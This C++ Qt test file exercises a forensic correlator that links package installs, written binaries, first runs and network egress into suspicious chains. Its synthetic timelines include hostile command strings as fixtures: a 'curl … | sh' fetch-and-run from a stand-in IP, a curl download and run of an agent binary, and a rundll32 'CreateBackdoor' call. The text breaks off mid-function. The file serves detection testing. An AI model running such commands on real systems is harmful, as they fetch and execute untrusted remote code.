// Correlation semantics on hand-built timelines: each test isolates one rule of
// spec/analytic.md. End-to-end behaviour on the demo evidence and the real corpus is
// covered by tst_chains.

#include "casestore.h"
#include "correlator.h"
#include "explanation.h"
#include "testsupport.h"

#include <QJsonDocument>

#include <QJsonObject>
#include <QTest>

#include <algorithm>

using namespace Chainscope;
using Chainscope::Test::Timeline;

namespace {

constexpr qint64 Second = 1000000;
constexpr qint64 Minute = 60 * Second;
constexpr qint64 T0 = 1'770'000'000LL * Second;

// apt-get installs a package whose postinst drops /usr/local/bin/tool; the tool
// later runs, forks sh -c 'curl … | sh', and curl connects to `egressIp` at
// `egressAt`. apt's http method downloads from `repoIp`.
void maliciousInstall(Timeline &t, qint64 egressAt, const QString &egressIp = QStringLiteral("198.51.100.7"),
    const QString &repoIp = QStringLiteral("203.0.113.50"), qint64 firstRunAt = T0 + 10 * Minute)
{
    t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/apt-get"), QStringLiteral("apt-get install qwik"))
        .fork(T0 + 1 * Second, 1000, 1001, QStringLiteral("/usr/bin/apt-get"))
        .exec(T0 + 1 * Second + 10, 1001, 1000, QStringLiteral("/usr/lib/apt/methods/http"))
        .connect(T0 + 2 * Second, 1001, repoIp, 80)
        .fork(T0 + 5 * Second, 1000, 1002, QStringLiteral("/usr/bin/apt-get"))
        .exec(T0 + 5 * Second + 10, 1002, 1000, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg --unpack"))
        .fork(T0 + 6 * Second, 1002, 1003, QStringLiteral("/usr/bin/dpkg"))
        .exec(T0 + 6 * Second + 10, 1003, 1002, QStringLiteral("/bin/sh"),
            QStringLiteral("/bin/sh /var/lib/dpkg/info/qwik.postinst configure"))
        .write(T0 + 7 * Second, 1003, QStringLiteral("/usr/local/bin/qwik"))
        .write(T0 + 7 * Second + 5, 1003, QStringLiteral("/tmp/not-monitored"))
        .exit(T0 + 8 * Second, 1003)
        .exit(T0 + 9 * Second, 1002)
        .exit(T0 + 10 * Second, 1000)
        .exec(T0 + 5 * Minute, 2000, 1, QStringLiteral("/bin/bash"))
        .fork(firstRunAt - 10, 2000, 2001, QStringLiteral("/bin/bash"))
        .exec(firstRunAt, 2001, 2000, QStringLiteral("/usr/local/bin/qwik"))
        .fork(firstRunAt + Second, 2001, 2002, QStringLiteral("/usr/local/bin/qwik"))
        .exec(firstRunAt + Second + 10, 2002, 2001, QStringLiteral("/bin/sh"),
            QStringLiteral("sh -c curl -fsSL http://198.51.100.7/x | sh"))
        .fork(egressAt - 2 * Second, 2002, 2003, QStringLiteral("/bin/sh"))
        .exec(egressAt - Second, 2003, 2002, QStringLiteral("/usr/bin/curl"))
        .connect(egressAt, 2003, egressIp, 443);
}

QList<Chain> correlate(const CaseIndex &index, const Policy &policy)
{
    Correlator c(index);
    return c.run(policy);
}

} // namespace

class Tst_correlator : public QObject
{
    Q_OBJECT
private slots:
    void installerDecisionsAnswerAsThePolicy();
    void fullChainWithEvidenceAndFlags();
    void approvedEgressIsExplained();
    void lateEgressIsANearMissUntilTheWindowGrows();
    void lateFirstRunIsExplained();
    void nestedInstallersAreOneSeed();
    void packageLogEventsJoinTheirInstaller();
    void installsThatWriteNothingMonitoredAreNotChains();
    void allowListChangesReuseWorkWindowChangesDoNot();
    void cancelStopsTheRun();
    void windowsWrittenLibraryRunsWhenLoaded();
    void windowsLoadsByTheInstallerAreStillTheInstall();
    void windowsDrift_data();
    void windowsDrift();
    void msiCustomActionIsAStagedFirstRun_data();
    void msiCustomActionIsAStagedFirstRun();
    void codeDroppedAnywhereAndRunIsAFirstRun_data();
    void codeDroppedAnywhereAndRunIsAFirstRun();
    void updateSessionOwnsItsServiceHostsModules_data();
    void updateSessionOwnsItsServiceHostsModules();
    void downloadedBinaryOfAnInstallScriptIsAFirstRun();
    void approvalNeedsANamedPolicyEntry();
    void importingTheSameEvidenceTwiceChangesNothing();
    void updaterByItsArguments_data();
    void updaterByItsArguments();
    void eventsBeforeTheInstallAreNotItsEgress();
    void updateSessionWorkersBelongToIt();
    void downloadForms_data();
    void downloadForms();
    void pipedScripts_data();
    void pipedScripts();
    void persistenceIsANote();
    void macTeamIdAndSignature_data();
    void macTeamIdAndSignature();
    void brewTaps_data();
    void brewTaps();
    void gatekeeperComplaintJoinsByPath_data();
    void gatekeeperComplaintJoinsByPath();
    void driftShowsItsHashes();
    void flaggedModuleRoleNamesTheFlag();
    void destinationsWithoutAPort_data();
    void destinationsWithoutAPort();
    void dnsEgressHasNoPort();
    void approvedEgressIsAnApprovalNotAMissingStage();
    void seedEventIdSurvivesAWindowChange();
    void labelsAreWordsNotKeys_data();
    void labelsAreWordsNotKeys();
    void durationLabels_data();
    void durationLabels();
};

void Tst_correlator::fullChainWithEvidenceAndFlags()
{
    CaseIndex index;
    Timeline t(index);
    maliciousInstall(t, T0 + 12 * Minute);
    t.build();
    // The site names its sources: a download from anywhere else is a mismatch.
    Policy policy = Policy::defaults();
    QString error;
    QVERIFY(policy.applyAssignment(QStringLiteral("ApprovedRepos=http://192.0.2.10/debian"), &error));
    const QList<Chain> chains = correlate(index, policy);
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    QVERIFY(c.isFull());
    QVERIFY(!c.approved);
    QCOMPARE(c.verdict, Verdict::Suspicious);
    QVERIFY2(c.missing.isEmpty(), qPrintable(c.missing.join(u'|')));
    QCOMPARE(c.host, QStringLiteral("h1"));
    QCOMPARE(c.installer, QStringLiteral("apt-get install qwik"));
    QCOMPARE(c.firstRun, QStringLiteral("/usr/local/bin/qwik"));
    QCOMPARE(c.egress, QStringLiteral("198.51.100.7:443"));
    QCOMPARE(c.writtenPaths, QStringList {QStringLiteral("/usr/local/bin/qwik")}); // /tmp is not monitored
    QCOMPARE(
        c.mismatches, (QStringList {Mismatch::HostNotApproved, Mismatch::RepoNotApproved, Mismatch::UnexpectedChild}));
    // Evidence per stage, by event id (ids are the timeline's order, 1-based).
    QCOMPARE(c.stage(Stage::Install)->eventIds, (QList<qint64> {1, 4})); // apt-get exec, repo download
    QCOMPARE(c.stage(Stage::Write)->eventIds, (QList<qint64> {9}));
    QCOMPARE(c.stage(Stage::FirstRun)->eventIds, (QList<qint64> {16, 18, 20})); // qwik, sh -c, curl
    QCOMPARE(c.stage(Stage::Egress)->eventIds, (QList<qint64> {21}));
    QVERIFY(c.score > 80);
    // The processes of the chain include the installer, the postinst and curl.
    QVERIFY(c.processNodes.contains(c.seedNode));
    QCOMPARE(c.firstRunNodes.size(), 1);
}

void Tst_correlator::approvedEgressIsExplained()
{
    CaseIndex index;
    Timeline t(index);
    // A benign update: the new binary itself reaches the vendor's update host.
    t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/apt-get"), QStringLiteral("apt-get upgrade"))
        .fork(T0 + Second, 1000, 1001, QStringLiteral("/usr/bin/apt-get"))
        .exec(T0 + Second + 10, 1001, 1000, QStringLiteral("/usr/bin/dpkg"))
        .rename(T0 + 2 * Second, 1001, QStringLiteral("/usr/bin/tool"))
        .exec(T0 + 20 * Minute, 3000, 1, QStringLiteral("/usr/bin/tool"))
        .connect(T0 + 21 * Minute, 3000, QStringLiteral("192.0.2.10"), 443)
        .connect(T0 + 21 * Minute, 3000, QStringLiteral("127.0.0.1"), 53);
    t.build();
    Policy policy = Policy::defaults();
    QString error;
    QVERIFY(policy.applyAssignment(QStringLiteral("ApprovedUpdateHosts=192.0.2.0/24"), &error));
    const QList<Chain> chains = correlate(index, policy);
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    QVERIFY(c.approved);
    QCOMPARE(c.verdict, Verdict::Approved);
    QVERIFY(!c.hasStage(Stage::Egress));
    QVERIFY(c.hasStage(Stage::FirstRun));
    // An approval is no missing stage: it is said as what approved it.
    QVERIFY2(c.missing.isEmpty(), qPrintable(c.missing.join(u'|')));
    QVERIFY2(c.summary.startsWith(QLatin1String("Approved because")), qPrintable(c.summary));
    QVERIFY2(c.summary.contains(QLatin1String("ApprovedUpdateHosts 192.0.2.0/24")), qPrintable(c.summary));
    const auto approvedEgress = std::find_if(c.evidence.cbegin(), c.evidence.cend(),
        [](const Evidence &e) { return e.role == u"egress" && e.target == u"192.0.2.10:443"; });
    QVERIFY(approvedEgress != c.evidence.cend());
    QCOMPARE(approvedEgress->approvedBy, QStringLiteral("ApprovedUpdateHosts 192.0.2.0/24"));
    QVERIFY(approvedEgress->flag.isEmpty());

    // Without the allow-list the same egress makes a full chain.
    const QList<Chain> strict = correlate(index, Policy::defaults());
    QVERIFY(strict.first().isFull());
    QVERIFY(!strict.first().approved);
}

void Tst_correlator::lateEgressIsANearMissUntilTheWindowGrows()
{
    CaseIndex index;
    Timeline t(index);
    maliciousInstall(t, T0 + 3 * 60 * Minute + 2 * Minute);
    t.build();
    Correlator correlator(index);
    const QList<Chain> chains = correlator.run(Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &near = chains.first();
    QVERIFY(!near.isFull());
    QVERIFY(!near.approved);
    QVERIFY(!near.hasStage(Stage::Egress));
    QCOMPARE(near.missing.size(), 1);
    QVERIFY2(near.missing.first().contains(QLatin1String("no egress within 90m")), qPrintable(near.missing.first()));
    QVERIFY2(near.missing.first().contains(QLatin1String("3 h 2 min")), qPrintable(near.missing.first()));
    QVERIFY2(near.missing.first().contains(QLatin1String("198.51.100.7:443")), qPrintable(near.missing.first()));
    QCOMPARE(near.lateEvents.size(), 1);

    Policy wide = Policy::defaults();
    QString error;
    QVERIFY(wide.applyAssignment(QStringLiteral("TimeWindow=4h"), &error));
    const QList<Chain> again = correlator.run(wide);
    QVERIFY(again.first().isFull());
    QVERIFY(again.first().missing.isEmpty());
}

void Tst_correlator::lateFirstRunIsExplained()
{
    CaseIndex index;
    Timeline t(index);
    maliciousInstall(
        t, T0 + 5 * 60 * Minute, QStringLiteral("198.51.100.7"), QStringLiteral("203.0.113.50"), T0 + 4 * 60 * Minute);
    t.build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    QCOMPARE(c.stages.size(), 2);
    QVERIFY2(
        c.missing.first().contains(QLatin1String("first ran 4 h after the install")), qPrintable(c.missing.first()));
}

void Tst_correlator::nestedInstallersAreOneSeed()
{
    CaseIndex index;
    Timeline t(index);
    t.exec(
         T0, 500, 1, QStringLiteral("/usr/bin/python3"), QStringLiteral("/usr/bin/python3 /usr/bin/unattended-upgrade"))
        .fork(T0 + 1, 500, 501, QStringLiteral("/usr/bin/python3"))
        .exec(T0 + 2, 501, 500, QStringLiteral("/usr/bin/dpkg"))
        .write(T0 + 3, 501, QStringLiteral("/usr/bin/a"))
        .fork(T0 + 4, 500, 502, QStringLiteral("/usr/bin/python3"))
        .exec(T0 + 5, 502, 500, QStringLiteral("/usr/bin/dpkg"))
        .write(T0 + 6, 502, QStringLiteral("/usr/bin/b"));
    t.build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    QCOMPARE(chains.first().writtenPaths, (QStringList {QStringLiteral("/usr/bin/a"), QStringLiteral("/usr/bin/b")}));
    QVERIFY(chains.first().installer.contains(QLatin1String("unattended-upgrade")));
}

void Tst_correlator::packageLogEventsJoinTheirInstaller()
{
    CaseIndex index;
    Timeline t(index);
    t.exec(T0, 1000, 1, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg -i qwik.deb"))
        .package(T0 + 2 * Second, QStringLiteral("qwik"))
        .write(T0 + 3 * Second, 1000, QStringLiteral("/usr/local/bin/qwik"))
        .exit(T0 + 4 * Second, 1000)
        // Later, a package log line with no process around it: its own seed, no chain.
        .package(T0 + 60 * Minute, QStringLiteral("other"));
    t.build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    QCOMPARE(chains.first().stage(Stage::Install)->eventIds, (QList<qint64> {1, 2}));
    QCOMPARE(chains.first().id, 1);
}

void Tst_correlator::installsThatWriteNothingMonitoredAreNotChains()
{
    CaseIndex index;
    Timeline t(index);
    t.exec(T0, 1000, 1, QStringLiteral("/usr/bin/apt-get"))
        .write(T0 + 1, 1000, QStringLiteral("/var/cache/apt/archives/x.deb"))
        .exec(T0 + 2, 1100, 1, QStringLiteral("/usr/bin/curl"))
        .connect(T0 + 3, 1100, QStringLiteral("198.51.100.7"));
    t.build();
    QVERIFY(correlate(index, Policy::defaults()).isEmpty());
}

void Tst_correlator::allowListChangesReuseWorkWindowChangesDoNot()
{
    CaseIndex index;
    Timeline t(index);
    maliciousInstall(t, T0 + 12 * Minute);
    t.build();
    Correlator correlator(index);
    correlator.run(Policy::defaults());
    QCOMPARE(correlator.reusedSeeds(), 0);

    Policy hosts = Policy::defaults();
    QString error;
    QVERIFY(hosts.applyAssignment(QStringLiteral("ApprovedUpdateHosts=198.51.100.0/24,203.0.113.0/24"), &error));
    const QList<Chain> approved = correlator.run(hosts);
    QVERIFY(correlator.reusedSeeds() > 0);
    // Reused work, new verdict: the egress and the package source are now approved.
    QVERIFY(!approved.first().hasStage(Stage::Egress));
    QVERIFY(!approved.first().mismatches.contains(Mismatch::RepoNotApproved));
    QVERIFY(approved.first().mismatches.contains(Mismatch::UnexpectedChild));

    Policy window = hosts;
    QVERIFY(window.applyAssignment(QStringLiteral("TimeWindow=5m"), &error));
    const QList<Chain> narrow = correlator.run(window);
    QCOMPARE(correlator.reusedSeeds(), 0);
    QVERIFY(!narrow.first().hasStage(Stage::FirstRun));
}

void Tst_correlator::cancelStopsTheRun()
{
    CaseIndex index;
    Timeline t(index);
    maliciousInstall(t, T0 + 12 * Minute);
    t.build();
    Correlator correlator(index);
    std::atomic<bool> cancel {true};
    QVERIFY(correlator.run(Policy::defaults(), &cancel).isEmpty());
    // A cancelled run leaves no half-valid cache behind.
    QCOMPARE(correlator.run(Policy::defaults()).size(), 1);
    QCOMPARE(correlator.reusedSeeds(), 0);
}

namespace {

// A signed updater writes a DLL into the app's folder under %LOCALAPPDATA%; the app,
// started later by explorer, loads it (unsigned) and connects out.
void updaterWritesLibrary(Timeline &t, const QString &status, const QString &signer)
{
    const QString dir = QStringLiteral("C:\\Users\\ann\\AppData\\Local\\Programs\\Voice\\");
    t.platform(Platform::Windows)
        .exec(T0 - Minute, 500, 4, QStringLiteral("C:\\Windows\\explorer.exe"))
        .exec(T0, 700, 500, dir + QStringLiteral("Update.exe"), QStringLiteral("Update.exe --update"))
        .write(T0 + 5 * Second, 700, dir + QStringLiteral("app\\ffmpeg.dll"))
        .exit(T0 + 10 * Second, 700)
        .exec(T0 + 2 * Minute, 800, 500, dir + QStringLiteral("app\\Voice.exe"))
        .load(T0 + 2 * Minute + Second, 800, dir + QStringLiteral("APP\\FFMPEG.DLL"), signer, status)
        .connect(T0 + 3 * Minute, 800, QStringLiteral("203.0.113.66"), 443);
}

} // namespace

void Tst_correlator::windowsWrittenLibraryRunsWhenLoaded()
{
    CaseIndex index;
    Timeline t(index);
    updaterWritesLibrary(t, QStringLiteral("Unavailable"), QString());
    t.build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.front();
    QVERIFY(c.isFull());
    QCOMPARE(c.platform, Platform::Windows);
    QVERIFY(c.mismatches.contains(Mismatch::UnsignedModule));
    QVERIFY(c.mismatches.contains(Mismatch::HostNotApproved));
    QVERIFY(c.firstRun.endsWith(QLatin1String("Voice.exe")));
    QVERIFY(!c.approved);
}

void Tst_correlator::windowsLoadsByTheInstallerAreStillTheInstall()
{
    // msiexec loading the custom-action DLL it just wrote is part of the install, not
    // a first run: its own downloads are not egress of a new binary.
    CaseIndex index;
    Timeline(index)
        .platform(Platform::Windows)
        .exec(T0, 600, 4, QStringLiteral("C:\\Windows\\System32\\msiexec.exe"), QStringLiteral("msiexec /V"))
        .write(T0 + Second, 600, QStringLiteral("C:\\Program Files\\Tool\\ca.dll"))
        .load(T0 + 2 * Second, 600, QStringLiteral("C:\\Program Files\\Tool\\ca.dll"), QString(),
            QStringLiteral("Unavailable"))
        .connect(T0 + 3 * Second, 600, QStringLiteral("198.51.100.9"))
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    QVERIFY(!chains.front().hasStage(Stage::FirstRun));
    QVERIFY(!chains.front().hasStage(Stage::Egress));
}

void Tst_correlator::windowsDrift_data()
{
    QTest::addColumn<QString>("beforeSigner");
    QTest::addColumn<QString>("beforeHash");
    QTest::addColumn<QString>("afterSigner");
    QTest::addColumn<QString>("afterHash");
    QTest::addColumn<QString>("approvedSigners");
    QTest::addColumn<QString>("expected"); // mismatch, or empty for none
    QTest::addColumn<bool>("approved");
    const QString vendor = QStringLiteral("Vendor Ltd");
    // Approval needs a policy entry that names the signer: without one the chain is
    // incomplete, never approved by default.
    QTest::newRow("same file, same signer") << vendor << "SHA256=AA" << vendor << "SHA256=AA"
                                            << ""
                                            << "" << false;
    QTest::newRow("same file, signer approved")
        << vendor << "SHA256=AA" << vendor << "SHA256=AA" << vendor << "" << true;
    QTest::newRow("new hash, same signer") << vendor << "SHA256=AA" << vendor << "SHA256=BB"
                                           << ""
                                           << "hash_drift" << false;
    QTest::newRow("new hash, same signer, approved")
        << vendor << "SHA256=AA" << vendor << "SHA256=BB" << vendor << "hash_drift" << true;
    QTest::newRow("new hash, approved signer")
        << "Old Vendor"
        << "SHA256=AA" << vendor << "SHA256=BB" << vendor << "signer_drift" << false;
    QTest::newRow("valid signature, other signer") << vendor << "SHA256=AA"
                                                   << "Someone Else LLC"
                                                   << "SHA256=BB"
                                                   << ""
                                                   << "signer_drift" << false;
    QTest::newRow("no history") << ""
                                << "" << vendor << "SHA256=BB"
                                << ""
                                << "" << false;
    QTest::newRow("no history, signer approved") << ""
                                                 << "" << vendor << "SHA256=BB" << vendor << "" << true;
}

void Tst_correlator::windowsDrift()
{
    QFETCH(QString, beforeSigner);
    QFETCH(QString, beforeHash);
    QFETCH(QString, afterSigner);
    QFETCH(QString, afterHash);
    QFETCH(QString, approvedSigners);
    QFETCH(QString, expected);
    QFETCH(bool, approved);
    const QString dll = QStringLiteral("C:\\Program Files\\Orion\\Core.BusinessLayer.dll");
    const QString host = QStringLiteral("C:\\Program Files\\Orion\\BusinessLayerHost.exe");
    CaseIndex index;
    Timeline t(index);
    t.platform(Platform::Windows).exec(T0 - 60 * Minute, 300, 4, host);
    if (!beforeHash.isEmpty())
        t.load(T0 - 59 * Minute, 300, dll, beforeSigner, QStringLiteral("Valid"), beforeHash);
    t.exit(T0 - 30 * Minute, 300)
        .exec(T0, 700, 4, QStringLiteral("C:\\Windows\\System32\\msiexec.exe"), QStringLiteral("msiexec /i orion.msp"))
        .write(T0 + Second, 700, dll)
        .exit(T0 + Minute, 700)
        .exec(T0 + 2 * Minute, 310, 4, host)
        .load(T0 + 2 * Minute + Second, 310, dll, afterSigner, QStringLiteral("Valid"), afterHash)
        .build();
    Policy policy = Policy::defaults();
    if (!approvedSigners.isEmpty())
        policy.approvedSigners = {approvedSigners};
    policy.compile();
    const QList<Chain> chains = correlate(index, policy);
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.front();
    QVERIFY(c.hasStage(Stage::FirstRun));
    if (expected.isEmpty())
        QVERIFY2(c.mismatches.isEmpty(), qPrintable(c.mismatches.join(u',')));
    else
        QVERIFY2(c.mismatches.contains(expected), qPrintable(c.mismatches.join(u',')));
    QCOMPARE(c.approved, approved);
}

namespace {

constexpr qint64 Window = 90 * Minute; // the default TimeWindow

const Evidence *evidenceWith(const Chain &c, const QString &role, const QString &targetEnd = QString())
{
    for (const Evidence &e : c.evidence) {
        if (e.role == role && (targetEnd.isEmpty() || e.target.endsWith(targetEnd, Qt::CaseInsensitive)))
            return &e;
    }
    return nullptr;
}

} // namespace

// AN0862 stage 3 without a stage-2 record: the Windows Installer service, whose own
// start is before the log, is known only from its events and its child's parent
// fields; its custom action runs from C:\Windows\Installer and starts a shell.
void Tst_correlator::msiCustomActionIsAStagedFirstRun_data()
{
    QTest::addColumn<qint64>("runAt");
    QTest::addColumn<bool>("chain");
    QTest::newRow("inside the window") << T0 + 10 * Second << true;
    // The shell then starts after the window: no longer part of the chain.
    QTest::newRow("at the window's end") << T0 + Window << true;
    QTest::newRow("one microsecond after") << T0 + Window + 1 << false;
}

void Tst_correlator::msiCustomActionIsAStagedFirstRun()
{
    QFETCH(qint64, runAt);
    QFETCH(bool, chain);
    const QString service = QStringLiteral("{AAAAAAAA-0000-0000-0000-000000000001}");
    const QString action = QStringLiteral("{AAAAAAAA-0000-0000-0000-000000000002}");
    const QString msiexec = QStringLiteral("C:\\Windows\\System32\\msiexec.exe");
    CaseIndex index;
    Timeline(index)
        .platform(Platform::Windows)
        .write(T0, 2080, QStringLiteral("C:\\Windows\\Installer\\304d1c.msi"))
        .withGuids(service)
        .exec(runAt, 3680, 2080, QStringLiteral("C:\\Windows\\Installer\\MSI4FFD.tmp"))
        .withGuids(action, service, msiexec, QStringLiteral("C:\\Windows\\system32\\msiexec.exe /V"))
        .exec(runAt + Second, 2892, 3680, QStringLiteral("C:\\Windows\\System32\\cmd.exe"), QStringLiteral("cmd"))
        .withGuids(QStringLiteral("{AAAAAAAA-0000-0000-0000-000000000003}"), action)
        .build();
    // The write event names only the pid; the child's parent fields give the image.
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), chain ? 1 : 0);
    if (!chain)
        return;
    const Chain &c = chains.first();
    QCOMPARE(c.installerImage, msiexec);
    QCOMPARE(c.installer, QStringLiteral("C:\\Windows\\system32\\msiexec.exe /V"));
    QCOMPARE(c.firstRun, QStringLiteral("C:\\Windows\\Installer\\MSI4FFD.tmp"));
    const bool shellInWindow = runAt + Second <= T0 + Window;
    QCOMPARE(c.verdict, shellInWindow ? Verdict::Suspicious : Verdict::Incomplete);
    QCOMPARE(c.mismatches.contains(Mismatch::UnexpectedChild), shellInWindow);
    QVERIFY(!c.hasStage(Stage::Write));
    QCOMPARE(c.missingStages.first().stage, Stage::Write);
    QVERIFY2(c.missingStages.first().reason.startsWith(QLatin1String("write not observed")),
        qPrintable(c.missingStages.first().reason));
    const Evidence *run = evidenceWith(c, QStringLiteral("first_run"));
    QVERIFY(run);
    QVERIFY2(run->reason.contains(QLatin1String("staging folder")), qPrintable(run->reason));
    QCOMPARE(c.processImages.contains(QStringLiteral("C:\\Windows\\System32\\cmd.exe")), shellInWindow);
    // The service is a node of its own, known only as a parent.
    QVERIFY(!index.process(c.seedNode).startSeen);
}

// An updater drops an executable and a DLL into the roaming profile (not a program
// path) and runs it at once: written anywhere + run within the window is stage 2 + 3.
void Tst_correlator::codeDroppedAnywhereAndRunIsAFirstRun_data()
{
    QTest::addColumn<qint64>("runAt");
    QTest::addColumn<bool>("firstRun");
    QTest::newRow("at once") << T0 + Second << true;
    QTest::newRow("at the window's end") << T0 + Window << true;
    QTest::newRow("one microsecond after") << T0 + Window + 1 << false;
}

void Tst_correlator::codeDroppedAnywhereAndRunIsAFirstRun()
{
    QFETCH(qint64, runAt);
    QFETCH(bool, firstRun);
    const QString dir = QStringLiteral("C:\\Users\\ann\\AppData\\Roaming\\");
    CaseIndex index;
    Timeline(index)
        .platform(Platform::Windows)
        .exec(T0 - Minute, 500, 4, QStringLiteral("C:\\Windows\\explorer.exe"))
        .exec(T0, 700, 500, QStringLiteral("C:\\Users\\ann\\Downloads\\Flash_update.exe"))
        .write(T0 + 100, 700, dir + QStringLiteral("NvSmart.exe"))
        .write(T0 + 200, 700, dir + QStringLiteral("NvSmartMax.dll"))
        .write(T0 + 300, 700, dir + QStringLiteral("NvSmartMax.dll.url"))
        .exec(runAt, 800, 700, dir + QStringLiteral("NvSmart.exe"))
        .load(runAt + 10, 800, dir + QStringLiteral("NvSmartMax.dll"), QString(), QStringLiteral("Unavailable"))
        .exec(runAt + 20, 900, 800, QStringLiteral("C:\\Windows\\System32\\cmd.exe"), QStringLiteral("cmd.exe /A"))
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    // Nothing was written into a program path: without its run, no chain.
    QCOMPARE(chains.size(), firstRun ? 1 : 0);
    if (!firstRun)
        return;
    const Chain &c = chains.first();
    QCOMPARE(c.firstRun, dir + QStringLiteral("NvSmart.exe"));
    if (runAt + 20 > T0 + Window) {
        // The load and the shell come after the window: the DLL is no longer code that
        // ran within it, and nothing is flagged.
        QCOMPARE(c.writtenPaths, QStringList {dir + QStringLiteral("NvSmart.exe")});
        QVERIFY(c.mismatches.isEmpty());
        return;
    }
    QCOMPARE(
        c.writtenPaths, (QStringList {dir + QStringLiteral("NvSmart.exe"), dir + QStringLiteral("NvSmartMax.dll")}));
    QCOMPARE(c.mismatches, (QStringList {Mismatch::UnexpectedChild, Mismatch::UnsignedModule}));
    QCOMPARE(c.verdict, Verdict::Suspicious);
    const Evidence *module = evidenceWith(c, QStringLiteral("module"), QStringLiteral("NvSmartMax.dll"));
    QVERIFY(module);
    QCOMPARE(module->flag, Mismatch::UnsignedModule);
    QCOMPARE(module->signatureStatus, QStringLiteral("Unavailable"));
    // No network events for this host at all: said so, not taken as "no egress".
    QCOMPARE(c.missingStages.last().stage, Stage::Egress);
    QVERIFY2(
        c.missingStages.last().reason.contains(QLatin1String("not logged")), qPrintable(c.missingStages.last().reason));
}

// An update client's session: the service host that does its work (not its child)
// loads an unsigned module while the session runs.
void Tst_correlator::updateSessionOwnsItsServiceHostsModules_data()
{
    QTest::addColumn<qint64>("loadAt");
    QTest::addColumn<bool>("chain");
    QTest::newRow("a second later") << T0 + Second << true;
    QTest::newRow("at the window's end") << T0 + Window << true;
    QTest::newRow("one microsecond after") << T0 + Window + 1 << false;
}

void Tst_correlator::updateSessionOwnsItsServiceHostsModules()
{
    QFETCH(qint64, loadAt);
    QFETCH(bool, chain);
    const QString svchost = QStringLiteral("C:\\Windows\\System32\\svchost.exe");
    const QString dll = QStringLiteral("C:\\Windows\\System32\\WindowsCoreDeviceInfo.dll");
    CaseIndex index;
    Timeline(index)
        .platform(Platform::Windows)
        .exec(T0 - Minute, 1652, 600, svchost, QStringLiteral("svchost.exe -k netsvcs -p"))
        .exec(T0, 2276, 6088, QStringLiteral("C:\\Windows\\System32\\UsoClient.exe"),
            QStringLiteral("usoclient StartInteractiveScan"))
        // A worker of the same session is no second install.
        .exec(T0 + Second / 2, 6420, 780, QStringLiteral("C:\\Windows\\WinSxS\\x\\TiWorker.exe"))
        .load(T0 + Second / 2 + 1, 1652, QStringLiteral("C:\\Windows\\System32\\taskschd.dll"),
            QStringLiteral("Microsoft Windows"), QStringLiteral("Valid"))
        .load(loadAt, 1652, dll, QString(), QStringLiteral("Unavailable"))
        .exec(loadAt + 10, 4848, 1652, QStringLiteral("C:\\Windows\\System32\\rundll32.exe"),
            QStringLiteral("rundll32 windowscoredeviceinfo.dll,CreateBackdoor"))
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), chain ? 1 : 0);
    if (!chain)
        return;
    const Chain &c = chains.first();
    QVERIFY(c.installerImage.endsWith(QLatin1String("UsoClient.exe")));
    QCOMPARE(c.verdict, Verdict::Suspicious);
    // rundll32 starts 10 us after the load: after the window in the boundary row.
    QCOMPARE(c.mismatches.contains(Mismatch::UnexpectedChild), loadAt + 10 <= T0 + Window);
    QVERIFY(c.mismatches.contains(Mismatch::UnsignedModule));
    const Evidence *module = evidenceWith(c, QStringLiteral("module"), QStringLiteral("WindowsCoreDeviceInfo.dll"));
    QVERIFY(module);
    QCOMPARE(module->image, svchost);
    // The session's valid loads are no evidence; the worker joined the session.
    QVERIFY(!evidenceWith(c, QStringLiteral("module"), QStringLiteral("taskschd.dll")));
    QCOMPARE(c.stage(Stage::Install)->eventIds.size(), 2);
    QCOMPARE(c.firstRun, svchost);
}

// A package manager's lifecycle script (npm) downloads a binary with curl and runs
// it; no write of the binary is logged, and it is not in a staging folder.
void Tst_correlator::downloadedBinaryOfAnInstallScriptIsAFirstRun()
{
    CaseIndex index;
    Timeline(index)
        .exec(T0 - Minute, 3000, 1, QStringLiteral("/bin/bash"))
        .fork(T0, 3000, 3001, QStringLiteral("/bin/bash"))
        .exec(T0 + 10, 3001, 3000, QStringLiteral("/usr/bin/node"),
            QStringLiteral("node /usr/lib/node_modules/npm/bin/npm-cli.js install left-padder"))
        .fork(T0 + Second, 3001, 3002, QStringLiteral("/usr/bin/node"))
        .exec(T0 + Second + 10, 3002, 3001, QStringLiteral("/bin/sh"), QStringLiteral("sh -c node install.js"))
        .fork(T0 + 2 * Second, 3002, 3003, QStringLiteral("/bin/sh"))
        .exec(T0 + 2 * Second + 10, 3003, 3002, QStringLiteral("/usr/bin/node"), QStringLiteral("node install.js"))
        .fork(T0 + 3 * Second, 3003, 3004, QStringLiteral("/usr/bin/node"))
        .exec(T0 + 3 * Second + 10, 3004, 3003, QStringLiteral("/usr/bin/curl"),
            QStringLiteral("curl -fsSL -o /home/dev/.local/share/lp/lp-agent https://203.0.113.80/a"))
        .connect(T0 + 3 * Second + 20, 3004, QStringLiteral("203.0.113.80"), 443)
        .fork(T0 + 5 * Second, 3003, 3005, QStringLiteral("/usr/bin/node"))
        .exec(T0 + 5 * Second + 10, 3005, 3003, QStringLiteral("/home/dev/.local/share/lp/lp-agent"),
            QStringLiteral("/home/dev/.local/share/lp/lp-agent"))
        .connect(T0 + 6 * Second, 3005, QStringLiteral("198.51.100.66"), 443)
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    QCOMPARE(c.installerImage, QStringLiteral("/usr/bin/node"));
